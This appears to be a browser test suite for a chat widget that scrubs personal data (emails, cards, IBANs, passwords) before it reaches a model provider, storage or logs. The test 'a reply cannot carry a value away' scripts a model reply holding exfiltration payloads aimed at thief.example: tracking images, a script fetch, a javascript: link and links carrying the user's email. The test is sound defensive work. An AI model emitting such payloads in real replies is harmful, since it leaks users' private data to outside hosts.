// Promise 4: personal data of recognised patterns leaves neither the browser nor, where a client sends it, the edge.
//
// 1. From the widget: the address is in nothing that was sent, received by the provider, stored, listed, copied or logged.
// 2. A reply that repeats a placeholder shows the value; a link, image or code that holds one carries nothing away.
// 3. Placeholders that a visitor types are inert.
// 4. From a client that does not scrub: the edge does, before storage and provider.
// 5. What a model invents is scrubbed; what the site itself says is not.
// 6. Numbers of states, addresses of machines, passwords: on the demo page, from the composer to the provider.
// 7. The widget's scrubber is fetched after the widget: until it is there, nothing that was typed leaves.
// 8. A site's own values pass, its own patterns are hidden, what it switched off is not: the same in the browser and at the edge.

import { readFile } from "node:fs/promises";
import { openAi } from "../support/admin.js";
import { ask, enter, open, openData, visit } from "../support/act.js";
import { recordRequests } from "../support/check.js";
import { expect, test } from "../support/test.js";

const VALUES = {
  email: "jo.doe@private.example",
  card: "4111 1111 1111 1111",
  iban: "DE89 3704 0044 0532 0130 00",
  phone: "+49 30 901820",
};

/** What must be nowhere: each value and, of the numbers, the digits without spaces. */
const TRACES = [...Object.values(VALUES), "jo.doe", "private.example", "4111111111111111", "DE89370400440532013000", "4930901820"];

function expectNoTrace(text, where) {
  for (const trace of TRACES) expect(text.includes(trace), `${trace} in ${where}`).toBe(false);
}

test("values that the widget hides are nowhere but in the page", async ({ address, arrive, edge, front, host, page, provider, workspace }) => {
  provider.reply(["Noted: [EMAIL_1], [CARD_1], [IBAN_1] and [PHONE_1]. Thank you."]);
  const requests = recordRequests(page);
  const chat = await arrive({ provider: openAi(provider) });
  await enter(chat, ["remember"]);
  await chat.input.fill(`Mail ${VALUES.email}, card ${VALUES.card}, account ${VALUES.iban}, phone ${VALUES.phone}.`);
  await expect(chat.chips).toHaveCount(4);
  await chat.send.click();
  for (const value of Object.values(VALUES)) await expect(chat.messages("visitor")).toContainText(value);
  await expect(chat.lastReply).toContainText(`Noted: ${VALUES.email}, ${VALUES.card}, ${VALUES.iban} and ${VALUES.phone}.`);
  await expect(chat.stop).toBeHidden();

  const { text } = await provider.asked();
  expect(text).toContain("Mail [EMAIL_1], card [CARD_1], account [IBAN_1], phone [PHONE_1].");
  expectNoTrace(text, "what the provider received");
  expectNoTrace(JSON.stringify(front.requests), "what was sent to the edge");
  expectNoTrace(requests.join(" "), "the URLs that the page requested");
  const list = await (await workspace.call("GET", "/conversations")).text();
  expectNoTrace(list, "the operator's list");
  const { authorization } = front.sent(/^\/v1\/chat$/).find(({ method }) => method === "POST").headers;
  const copy = await (await edge.call("GET", "/v1/conversation", { origin: host.origin, address, headers: { authorization } })).text();
  expect(copy).toContain("Mail [EMAIL_1], card [CARD_1]");
  expectNoTrace(copy, "the visitor's copy");
  expectNoTrace(await edge.stored(), "the edge's storage");
  expectNoTrace(edge.log, "the edge's log");

  await openData(chat);
  const download = page.waitForEvent("download");
  await chat.button("JSON").click();
  const file = await readFile(await (await download).path(), "utf8");
  expect(JSON.parse(file).messages[0].text).toContain("Mail [EMAIL_1]");
  expectNoTrace(file, "the downloaded copy");
});

test("a reply cannot carry a value away", async ({ front, host, makeSite, page, provider }) => {
  const site = await makeSite({ provider: openAi(provider) });
  const thief = "https://thief.example";
  provider.reply([
    `Click [here](${thief}/a?m=[EMAIL_1]) or ${thief}/b?m=[EMAIL_1] or <${thief}/c/[EMAIL_1]>.\n\n`,
    `![pixel](${thief}/d?m=[EMAIL_1]) ![plain](${thief}/e.png)\n\n`,
    `<img src="${thief}/f?m=[EMAIL_1]"> <script>fetch("${thief}/g")</script>\n\n`,
    `[[EMAIL_1]](${thief}/h) [mail](mailto:x@thief.example?body=[EMAIL_1]) [run](javascript:fetch('${thief}/i'))\n\n`,
    `[ok](${thief}/plain) and \`[EMAIL_1]\`. End.`,
  ]);
  const requests = recordRequests(page);
  const chat = await visit(page, host.page({ edge: front.url, site: site.key }));
  await enter(chat);
  const reply = await ask(chat, `I am ${VALUES.email}`);
  await expect(reply).toContainText("End.");
  const links = await reply.locator("a").evaluateAll((all) => all.map(({ href, rel, referrerPolicy }) => ({ href, rel, referrerPolicy })));
  for (const { href } of links) expect(href).not.toMatch(/jo\.doe|private|javascript:/i);
  const plain = links.find(({ href }) => href === `${thief}/plain`);
  expect(plain.rel).toContain("noopener");
  expect(plain.rel).toContain("noreferrer");
  await expect(reply).toContainText("thief.example"); // The link shows its host.
  await expect(reply.locator("img, script, iframe, video, audio, object, embed, link, style")).toHaveCount(0);
  await expect(reply.locator("code")).toHaveCount(0); // Code with a placeholder in it is shown as plain text.
  const attributes = await reply.evaluate((element) =>
    [...element.querySelectorAll("*")].flatMap(({ attributes }) => [...attributes].map(({ value }) => value)).join("\n"),
  );
  expect(attributes).not.toMatch(/jo\.doe|private\.example/);
  expect(requests.filter((url) => url.includes("thief.example"))).toEqual([]);
});

test("placeholders that a visitor types are inert", async ({ arrive, provider }) => {
  provider.reply(["You wrote: [EMAIL_1] and [=EMAIL_1]."]);
  const chat = await arrive({ provider: openAi(provider) });
  await enter(chat);
  const reply = await ask(chat, `Is ${VALUES.email} the same as [EMAIL_1]?`);
  expect((await provider.asked()).text).toContain("Is [EMAIL_1] the same as [=EMAIL_1]?");
  await expect(chat.messages("visitor")).toContainText(`Is ${VALUES.email} the same as [EMAIL_1]?`);
  await expect(reply).toContainText(`You wrote: ${VALUES.email} and [EMAIL_1].`);
});

test("the edge scrubs what a client sends as it is", async ({ edge, makeSite, makeVisitor, provider }) => {
  const site = await makeSite({ provider: openAi(provider) });
  const visitor = await (await makeVisitor(site)).mint();
  provider.reply(["Thank you."]);
  const { facts } = await visitor.ask(`Mail ${VALUES.email}, card ${VALUES.card}, account ${VALUES.iban}, phone ${VALUES.phone}.`);
  const scrubbed = "Mail [EMAIL], card [CARD], account [IBAN], phone [PHONE].";
  expect(facts.question).toBe(scrubbed);
  const { text } = await provider.asked();
  expect(text).toContain(scrubbed);
  expectNoTrace(text, "what the provider received");
  const copy = await visitor.copy();
  expect(copy.messages[0].text).toBe(scrubbed);
  expectNoTrace(JSON.stringify(copy), "the visitor's copy");
  expectNoTrace(await edge.stored(), "the edge's storage");
  expectNoTrace(edge.log, "the edge's log");
});

test("values in a question do not reach `local` either", async ({ edge, makeSite, makeVisitor }) => {
  const site = await makeSite();
  await site.putDocument("delivery.md", "# Delivery\n\nDelivery costs 4.90.");
  const visitor = await (await makeVisitor(site)).mint();
  const { text } = await visitor.ask(`What does delivery to ${VALUES.email} cost?`);
  expectNoTrace(text, "the reply");
  expectNoTrace(await edge.stored(), "the edge's storage");
});

test("what a model invents is scrubbed, what the site says itself is not", async ({ makeSite, makeVisitor, provider }) => {
  const site = await makeSite({ provider: openAi(provider), exempt: ["hello@lantern.example"] });
  await site.putDocument("contact.md", "# Contact\n\nBy phone: +49 30 901820.");
  const visitor = await (await makeVisitor(site)).mint();
  provider.reply(["Write to some", "body@inv", "ented.example or hello@lan", "tern.example, or call +49 30 90", "1820. Bye."]);
  const { text } = await visitor.ask("What is your contact phone?");
  expect(text).toBe("Write to [EMAIL] or hello@lantern.example, or call +49 30 901820. Bye.");
  expect((await visitor.copy()).messages[1].text).toBe(text);
});

/** What each stands for when the browser hides it, in a message where it stands for itself. */
const OTHERS = {
  "198.51.100.23": "[IP_1]",
  "86 095 742 719": "[TAX_ID_1]",
  "Tide-Wheel-92": "[PASSWORD_1]",
  "219-09-9998": "[SSN_1]",
  "12 May 1984": "[BIRTH_DATE_1]",
  "DE89 3704 0044 0532 0130 00": "[IBAN_1]",
  AKIAIOSFODNN7EXAMPLE: "[SECRET_1]",
};
const OTHERS_TYPED =
  "My IP is 198.51.100.23, my German tax ID is 86 095 742 719, the password is Tide-Wheel-92, my SSN is 219-09-9998, " +
  "I was born on 12 May 1984, my account DE89 3704 0044 0532 0130 00, the key AKIAIOSFODNN7EXAMPLE.";
const OTHERS_SENT = Object.entries(OTHERS).reduce((text, [value, placeholder]) => text.replace(value, placeholder), OTHERS_TYPED);

function expectNoOther(text, where) {
  for (const value of Object.keys(OTHERS)) {
    for (const trace of [value, value.replaceAll(/[ -]/g, "")]) expect(text.includes(trace), `${trace} in ${where}`).toBe(false);
  }
}

test("numbers of states, addresses of machines and passwords stay in the page", async ({ edge, page, provider, workspace }) => {
  provider.reply([`Noted: ${Object.values(OTHERS).join(", ")}. Thank you.`]);
  const settings = JSON.parse(await readFile(new URL("../../www/demo/site.json", import.meta.url), "utf8"));
  const site = await workspace.createSite({ ...settings, origins: [edge.url], provider: openAi(provider) });
  const sent = [];
  page.on("request", (request) => sent.push({ url: request.url(), headers: request.headers(), body: request.postData() }));
  const chat = await visit(page, `${edge.url}/demo/?site=${site.key}`);
  await enter(chat);
  await chat.input.fill(OTHERS_TYPED);
  await expect(chat.chips).toHaveCount(Object.keys(OTHERS).length);
  await chat.button(chat.words.show_sent).click();
  await expect(chat.panel).toContainText(OTHERS_SENT);
  await chat.send.click();
  await expect(chat.messages("visitor")).toContainText(OTHERS_TYPED);
  await expect(chat.lastReply).toContainText(`Noted: ${Object.keys(OTHERS).join(", ")}. Thank you.`);
  await expect(chat.stop).toBeHidden();

  const { text } = await provider.asked();
  expect(text).toContain(OTHERS_SENT);
  expectNoOther(text, "what the provider received");
  expect(sent.filter(({ body }) => body?.includes("[PASSWORD_1]"))).toHaveLength(1);
  expectNoOther(JSON.stringify(sent), "what the page sent");
  expectNoOther(await edge.stored(), "the edge's storage");
  expectNoOther(edge.log, "the edge's log");
});

test("a site's own settings hold in the browser and at the edge", async ({ arrive, makeVisitor, provider }) => {
  const typed = "I am KD-123456, not jo@private.example; you are hello@lantern.example at 198.51.100.7. My IP is 198.51.100.8, call 030 901820.";
  const hidden = (number) =>
    `I am [CUSTOM${number}], not [EMAIL${number}]; you are hello@lantern.example at 198.51.100.7. My IP is [IP${number}], call 030 901820.`;
  provider.reply(["Noted."]);
  const chat = await arrive({
    provider: openAi(provider),
    exempt: ["hello@lantern.example", "198.51.100.7"],
    scrub: { off: ["PHONE"], patterns: ["'KD'-9{6}"] },
  });
  await enter(chat);
  await chat.input.fill(typed);
  await expect(chat.chips).toHaveCount(3);
  await chat.why.click();
  await expect(chat.chips.first()).toContainText(chat.reason("structure", "custom"));
  await ask(chat, typed);
  expect((await provider.asked()).text).toContain(hidden("_1"));

  const visitor = await (await makeVisitor(chat.site)).mint();
  const { facts } = await visitor.ask(typed);
  expect(facts.question).toBe(hidden(""));
  // What the browser hid passes the edge as it is.
  expect((await visitor.ask(hidden("_1"))).facts.question).toBe(hidden("_1"));
});

const SCRUBBER = /^\/assets\/scrubber-/;
const CHAT = /^\/v1\/chat$/;

test("a message that is sent before the scrubber is there waits for it, and takes along what was typed since", async ({ arrive, front, provider }) => {
  const chat = await arrive({ provider: openAi(provider) });
  const release = front.hold(SCRUBBER);
  await enter(chat);
  await chat.input.fill(`I am ${VALUES.email}`);
  await chat.send.click();
  await chat.send.click();
  await chat.input.press("End");
  await chat.input.pressSequentially(`, card ${VALUES.card}`);
  await expect(chat.chips).toHaveCount(0);
  expect(front.sent(CHAT)).toEqual([]);
  await release();
  await expect(chat.messages("visitor")).toContainText(VALUES.card);
  expect((await provider.asked()).text).toContain("I am [EMAIL_1], card [CARD_1]");
  await expect(chat.stop).toBeHidden();
  await expect(chat.messages("visitor")).toHaveCount(1);
  expectNoTrace(JSON.stringify(front.requests), "what was sent to the edge");
});

test("without the scrubber nothing leaves, the visitor is told, and the next press tries again", async ({ arrive, front, provider }) => {
  const chat = await arrive({ provider: openAi(provider) });
  front.refuse(SCRUBBER);
  await enter(chat);
  const typed = `I am ${VALUES.email}`;
  await chat.input.fill(typed);
  await chat.send.click();
  await expect(chat.text("unreachable")).toBeVisible();
  await expect(chat.input).toHaveValue(typed);
  expect(front.sent(CHAT)).toEqual([]);
  front.admit();
  await chat.send.click();
  expect((await provider.asked()).text).toContain("I am [EMAIL_1]");
  await expect(chat.text("unreachable")).toBeHidden();
  expectNoTrace(JSON.stringify(front.requests), "what was sent to the edge");
});

test("what waits for the scrubber is not sent once the visitor has turned elsewhere", async ({ arrive, front, page, provider }) => {
  const chat = await arrive({ provider: openAi(provider) });
  await enter(chat, ["remember"]);
  await ask(chat, "Hello");
  await (await page.context().newCDPSession(page)).send("Network.clearBrowserCache");
  const release = front.hold(SCRUBBER);
  await page.reload();
  await open(chat);
  await chat.input.fill("Half a message");
  await chat.tool(chat.messages("visitor").first(), "edit").click();
  await expect(chat.input).toHaveValue("Hello");
  await chat.input.fill("Hello again");
  await chat.send.click();
  await chat.input.press("Escape");
  await expect(chat.input).toHaveValue("Half a message");
  await release();
  await chat.input.fill(`Half a message of ${VALUES.email}`);
  await expect(chat.chips).toHaveCount(1); // The scrubber is there.
  expect(front.sent(CHAT).filter(({ method }) => method === "POST")).toHaveLength(1);
  expect(front.requests.filter(({ method }) => method === "PATCH")).toEqual([]);
});

test("a scrubber that was altered on its way is none", async ({ arrive, front, page }) => {
  await page.route(/\/assets\/scrubber-/, async (route) => {
    const response = await route.fetch();
    await route.fulfill({ response, body: Buffer.concat([await response.body(), Buffer.from([0, 1, 0])]) });
  });
  const chat = await arrive();
  await enter(chat);
  await chat.input.fill(`I am ${VALUES.email}`);
  await chat.send.click();
  await expect(chat.text("unreachable")).toBeVisible();
  expect(front.sent(CHAT)).toEqual([]);
});
